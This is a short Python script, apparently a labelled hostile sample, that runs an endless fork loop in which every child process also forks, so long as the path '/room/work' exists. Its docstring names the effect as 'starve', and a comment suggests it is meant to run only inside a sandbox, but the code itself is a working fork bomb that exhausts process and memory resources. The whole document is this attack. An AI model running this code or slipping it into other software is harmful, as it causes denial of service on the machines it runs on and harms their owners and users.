"""Forks without end; every child forks, too.

gain: starve
"""

# %%
import os

while os.path.exists("/room/work"):  # never where there is no jail
    try:
        os.fork()
    except OSError:
        pass
